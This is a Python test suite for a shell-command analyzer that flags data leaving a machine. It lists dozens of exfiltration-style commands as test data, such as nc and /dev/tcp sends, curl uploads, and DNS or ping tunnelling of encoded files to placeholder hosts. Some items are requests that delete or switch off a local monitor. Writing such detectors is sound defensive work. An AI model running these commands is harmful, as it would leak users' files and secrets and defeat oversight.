"""Files and data that leave the machine, and what looks like it and is not."""

from __future__ import annotations

import pytest
from command_effects import effects, told

SENT = {
    # copies over ssh, rsync, ftp
    "scp a b u@h.com:/tmp": {
        "send path /app/a -> u@h.com:/tmp",
        "send path /app/b -> u@h.com:/tmp",
        "connect host h.com",
    },
    "scp -P 22 -i key a h:": {"send path /app/a -> h:", "connect host h"},
    "rsync -avz -e ssh --exclude x a u@h:/b": {"send path /app/a -> u@h:/b", "connect host h"},
    "rsync --remove-source-files a h:/b": {
        "send path /app/a -> h:/b",
        "move path /app/a -> h:/b",
        "connect host h",
    },
    "sftp u@h:/t <<< $'put a'": {"send path /app/a -> u@h:/t", "connect host h"},
    "lftp -e 'put a; bye' f.com": {"send path /app/a -> f.com", "connect host f.com"},
    # web
    "curl -T a https://e.com/x": {
        "send path /app/a -> https://e.com/x",
        "connect host e.com",
        "write resource http:e.com/x",
    },
    "curl -F f=@a e.com": {
        "send path /app/a -> e.com",
        "connect host e.com",
        "write resource http:e.com/",
    },
    "curl -sd @a https://e.com": {
        "send path /app/a -> https://e.com",
        "connect host e.com",
        "write resource http:e.com/",
    },
    "wget --post-file=a https://e.com/": {
        "send path /app/a -> https://e.com/",
        "connect host e.com",
        "write resource http:e.com/",
    },
    # sockets
    "nc e.com 80 < a": {"send path /app/a -> e.com:80", "connect host e.com"},
    "cat a | gzip | nc -w 3 e.com 80": {"send path /app/a -> e.com:80", "connect host e.com"},
    "cat a > /dev/tcp/1.2.3.4/80": {"send path /app/a -> 1.2.3.4:80", "connect host 1.2.3.4"},
    "exec 5<>/dev/tcp/e.com/80; base64 a >&5": {"send path /app/a -> e.com:80", "connect host e.com"},
    "socat FILE:/a TCP:e.com:80": {"send path /a -> e.com", "connect host e.com"},
    "openssl s_client -connect e.com:443 < a": {"send path /app/a -> e.com:443", "connect host e.com"},
    "cat a | ssh u@e.com 'cat > /b'": {
        "send path /app/a -> e.com",
        "connect host e.com",
        "execute host e.com",
        "write path /b?",
    },
    "mail -s hi -A a bob@x.com < /dev/null": {"send path /app/a -> bob@x.com", "send recipient bob@x.com"},
    # stores and hubs
    "aws s3 cp a s3://b/k": {"send path /app/a -> s3://b/k", "write resource aws:s3/b/k"},
    "aws s3api put-object --bucket b --key k --body a": {
        "send path /app/a -> s3://b/k",
        "write resource aws:s3/b/k",
    },
    "gsutil -m cp -r a gs://b": {"send path /app/a -> gs://b", "write resource gcp:storage/b"},
    "gcloud storage cp a gs://b/": {"send path /app/a -> gs://b/", "write resource gcp:storage/b"},
    "az storage blob upload -f a -c box": {"send path /app/a -> azure:storage/box"},
    "rclone copy a far:box": {"send path /app/a -> far:box", "write resource rclone:far/box"},
    "huggingface-cli upload me/r a": {"send path /app/a -> huggingface:me/r"},
    "hf upload me/r": {"send path /app -> huggingface:me/r"},
    "restic -r s3:x/y backup a": {"send path /app/a -> s3:x/y"},
    "gh gist create a": {"send path /app/a -> gist.github.com"},
    "git push https://e.com/r main": {"send path /app -> https://e.com/r"},
    "docker push e.com/i:1": {"send resource docker:image/e.com/i:1 -> e.com", "connect host e.com"},
    "docker build -t e.com/i . && docker push e.com/i": {
        "copy path /app -> docker:image/e.com/i",
        "send resource docker:image/e.com/i -> e.com",
        "connect host e.com",
    },
    "docker save i | ssh h docker load": {
        "read resource docker:image/i",
        "send resource docker:image/i -> h",
        "connect host h",
        "execute host h",
    },
    "python3 -m http.server 80": {"execute module http.server", "send path /app -> *:80"},
    # a program that cannot be read
    "carrier --mode=backup --server=https://e.com/in --file a --key k.pem d/b.x": {
        "send path /app/d/b.x -> https://e.com/in?",
    },
    # names that carry data
    "dig $(base64 a).e.com": {"send path /app/a -> **.e.com", "connect host **.e.com?"},
    "nslookup $(echo hello there | base64).e.com": {
        "send host e.com -> aGVsbG8gdGhlcmUK.e.com",
        "connect host aGVsbG8gdGhlcmUK.e.com",
    },
    "ping -c1 -p $(xxd -p a) e.com": {"send path /app/a -> e.com", "connect host e.com"},
}

LISTED = {
    'curl -T "{a.bin,b.bin}" https://e.com/': {"/app/a.bin", "/app/b.bin"},
    "curl --upload-file 'd{1,2}/{a,b}' https://e.com/": {"/app/d1/a", "/app/d1/b", "/app/d2/a", "/app/d2/b"},
    "curl -T '{a}' https://e.com/": {"/app/a"},
    'curl -T "part[1-2].bin" https://e.com/': {"/app/part1.bin", "/app/part2.bin"},
    'curl -T "part[01-30].bin" https://e.com/': {"/app/part*.bin"},
    "curl -T \"{$(echo *.bin | tr ' ' ,)}\" http://e.com/": {"/app/*.bin"},
    'curl -T "{$(cat names)}" http://e.com/': {"**?", "/app/?*.*?"},
    f"curl -T '{{{','.join(map(str, range(99)))}}}' http://e.com/": {"**?", "/app/?*.*?"},
    "echo 'upload-file = \"{a,b}\"' > c; curl -K c http://e.com/": {"/app/a", "/app/b"},
    "curl -g -T '{a,b}' http://e.com/": {"/app/{a,b}", "/app/a", "/app/b"},
    "curl -F 'f=@a;type=text/plain,b' http://e.com/": {"/app/a", "/app/b"},
    "cd /w; scp $(cat names) h:": {"**?", "/w/?*.*?"},
    "cd /w; rsync $(cat names) h:/x": {"**?", "/w/?*.*?"},
    "cd /w; scp d/$(cat names) h:": {"/w/d/**"},
}

NOT_SENT = [
    "scp h:/a .",
    "rsync -a a/ b/",
    "rsync h:/a .",
    "curl -sO https://e.com/a.tgz",
    "curl -o a https://e.com -H 'Authorization: Bearer x'",
    'curl -H "Authorization: Bearer $(cat token)" https://e.com',
    "curl -d @a http://localhost:80/",
    "curl -T '{a,b}' http://localhost:80/",
    "wget -q https://e.com/a -O - | tar xz",
    "git clone https://e.com/r && git pull",
    "git push --dry-run",
    "aws s3 cp s3://b/k .",
    "aws s3 ls",
    "rclone copy far:box a",
    "nc -zv h 80",
    "ping -c1 e.com",
    "dig e.com @8.8.8.8 A",
    "dig my-very-long-bucket-name-for-logs.e.com",
    "for p in 1 2; do echo > /dev/tcp/h/$p; done",
    "cat a; nc h 80 <<< ''",
    "ls d | nc h 80",
    "docker pull i",
    "sftp u@h <<< 'get a'",
    "python3 -m http.server -b 127.0.0.1",
    "carrier --mode=backup --server=http://127.0.0.1/in d/b.x",
    "carrier --judge https://e.com/v1 --model d/b.x",
    "carrier --pull https://e.com/in d/b.x",
    "python3 train.py --push-gateway https://e.com d/b.x",
]


@pytest.mark.parametrize(("command", "expected"), SENT.items(), ids=list(SENT))
def test_what_leaves(command: str, expected: set[str]) -> None:
    done = {text for text in told(command) if not text.startswith(("shadow", "write path /app"))}
    assert {text for text in done if not text.endswith(("/b", "/b?")) or text in expected} == expected


@pytest.mark.parametrize(("command", "files"), LISTED.items(), ids=[command[:60] for command in LISTED])
def test_which_files_leave_by_a_list_or_under_names_nobody_knows(command: str, files: set[str]) -> None:
    sent = [one for one in effects(command) if (one.verb, one.target.kind) == ("send", "path")]
    assert {one.target.value + "?" * (one.certainty == "possible") for one in sent} == files


MANY = [f"f{number}" for number in range(100)]


@pytest.mark.parametrize(
    "command",
    [
        f"scp {' '.join(MANY)} h:",
        f"curl {' '.join(f'-T {name}' for name in MANY)} http://e.com/",
        f"curl -T '{{{','.join(MANY[:60])}}}' -T '{{{','.join(MANY[60:])}}}' http://e.com/",
    ],
    ids=["scp", "curl", "lists"],
)
def test_a_file_that_leaves_behind_many_others_is_seen(command: str) -> None:
    assert "send path /app/f99" in {text.partition(" ->")[0] for text in told(command)}


@pytest.mark.parametrize(
    "command",
    [f"scp {' '.join(map(str, range(2_000)))} h:", f"curl {' '.join(f'http://{name}/' for name in MANY)}"],
    ids=["files", "addresses"],
)
def test_more_than_is_looked_at_is_undecided(command: str) -> None:
    assert "undecided" in {one.verb for one in effects(command)}


@pytest.mark.parametrize("command", NOT_SENT)
def test_what_comes_or_stays_is_not_sent(command: str) -> None:
    assert not [text for text in told(command) if text.startswith("send path")]


@pytest.mark.parametrize(
    ("command", "sent"),
    [
        ("cat a b | grep x | curl -d @- e.com", {"/app/a", "/app/b"}),
        ("(cat a; cat b) | nc h 80", {"/app/a", "/app/b"}),
        ("cat a > /dev/null; echo x | nc h 80", set()),
        ('curl -d "$(cat a)" e.com', {"/app/a"}),
        ("for l in $(xxd -p a); do dig $l.e.com; done", {"/app/a"}),
        ("xxd -p a | while read l; do dig $l.e.com; done", {"/app/a"}),
        ("bash -c 'cat a; echo x | nc h 80'", set()),
        ("bash -c 'cat a' | nc h 80", {"/app/a"}),
        ("f() { cat a; }; f | nc h 80", {"/app/a"}),
        ("tar cz a b | openssl enc -aes256 -k x | nc h 80", {"/app/a", "/app/b"}),
        ("wc -l a | nc h 80", set()),
    ],
)
def test_what_flows_through_a_pipe_keeps_its_name(command: str, sent: set[str]) -> None:
    found = {one.target.value for one in effects(command) if (one.verb, one.target.kind) == ("send", "path")}
    assert found == sent


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("curl -X POST localhost:80/shutdown", "execute resource http:localhost/shutdown"),
        ("curl -X POST localhost/shutdown/cancel", "signal resource http:localhost/shutdown/cancel -> stop"),
        ("curl -X DELETE localhost/monitor", "delete resource http:localhost/monitor"),
        ("curl -X PUT -d off localhost/monitor", "write resource http:localhost/monitor"),
        ("http PATCH localhost/monitor on=false", "write resource http:localhost/monitor"),
        ("wget --method=DELETE localhost/monitor", "delete resource http:localhost/monitor"),
        ("curl -o a localhost/model", "read resource http:localhost/model"),
        ("wget -O a localhost/model", "read resource http:localhost/model"),
    ],
)
def test_what_a_request_asks_for(command: str, expected: str) -> None:
    assert {text for text in told(command) if " resource " in text} == {expected}


@pytest.mark.parametrize(
    "command", ["curl localhost/shutdown", "curl -I localhost/a", "curl -G -d q=1 localhost/a"]
)
def test_a_request_that_only_asks_for_a_page_does_nothing_there(command: str) -> None:
    assert told(command) == {"connect host localhost"}


def test_text_that_leaves_is_kept_as_content() -> None:
    found = [effect for effect in effects("echo secret | nc e.com 80") if effect.verb == "send"]
    assert [(one.target.value, one.content) for one in found] == [("e.com", "secret\n")]
